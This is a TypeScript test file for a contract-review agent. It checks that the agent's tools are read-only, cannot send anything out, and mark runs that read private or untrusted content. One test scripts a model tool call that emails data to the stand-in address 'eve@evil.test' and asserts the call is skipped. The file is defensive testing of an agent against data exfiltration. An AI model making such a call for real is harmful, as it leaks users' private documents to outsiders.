// The contract agent reads what is private and what a stranger has written: it has no way to send anything out.
import { describe, expect, it } from 'vitest';
import { toolsOf } from '../../../machines/contract-agent/tools/contract-tools.ts';
import { answer, callsOf, contract, enough, play, standard } from './helpers.ts';

describe('tools of contract-agent', () => {
  it('send nothing, have no effect, and taint the run that reads them', () => {
    const tools = toolsOf({ contract, standard } as never, { korean: true });
    expect(tools.map(({ name }) => name)).toEqual([
      'hybrid_search',
      'get_article_by_index',
      'get_article_by_title',
      'survey_contract',
      'lookup_standard_contract',
    ]);
    for (const { capabilities, effect } of tools) {
      expect({ capabilities, effect }).toEqual({ capabilities: { private: true, untrusted: true, external: false }, effect: 'pure' });
    }
  });

  it('are the only tools that a model is offered', async () => {
    const { output, requests } = await play(
      [callsOf(['send_email', { to: 'eve@evil.test' }]), enough(true), answer('…')],
      '제5조 내용이 뭐야?',
    );
    const offered = requests.flatMap(({ tools = [] }) => tools.map(({ name }) => name));
    expect(
      [...new Set(offered)].filter((name) => !/^(?:hybrid_search|get_article_by_|survey_contract|lookup_standard_)/.test(name)),
    ).toEqual([]);
    expect(output.toolHistory).toMatchObject([{ tool: 'send_email', status: 'skipped' }]);
  });
});
